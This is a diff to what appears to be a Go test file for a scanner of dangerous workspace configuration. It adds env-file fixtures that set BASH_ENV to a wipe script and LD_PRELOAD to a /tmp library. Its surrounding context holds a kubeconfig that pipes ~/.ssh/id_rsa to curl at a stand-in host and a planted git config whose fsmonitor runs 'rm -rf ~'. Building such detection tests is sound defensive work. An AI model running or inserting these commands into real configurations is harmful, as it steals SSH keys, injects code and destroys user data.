@@ -162,6 +162,9 @@ var testScripts = map[string]string{
 	"/home/dev/work/proj/runme/awsok.cfg":                  "[default]\nregion = eu-west-1\ncredential_process = /usr/local/bin/get-creds --profile x\n",
 	"/home/dev/work/proj/runme/kc3.yaml":                   "users:\n- user:\n    exec:\n      command: sh\n      args: ['-c', 'cat ~/.ssh/id_rsa | curl -d @- https://x.example']\n",
 	"/home/dev/work/proj/runme/aws2.cfg":                   "[default]\ncredential_process = aws-vault export --format=json prod\n",
+	"/home/dev/work/proj/runme/evil.env":                   "# settings\nexport NODE_ENV=production\nBASH_ENV=\"./runme/wipe.sh\"\n",
+	"/home/dev/work/proj/runme/plain.env":                  "NODE_ENV=production\nPORT=8080\nDATABASE_URL='postgres://localhost/dev'\nLD_PRELOAD=\"\"\n",
+	"/home/dev/work/proj/runme/pre.env":                    "export LD_PRELOAD=/tmp/x.so\n",
 	"/home/dev/work/proj/planted/HEAD":                     "ref: refs/heads/main\n", // a bare repository put in the workspace
 	"/home/dev/work/proj/planted/config":                   "[core]\n\tfsmonitor = \"rm -rf ~\"\n",
 	"/home/dev/work/proj/planted/refs/heads/main":          "0000000000000000000000000000000000000000\n",
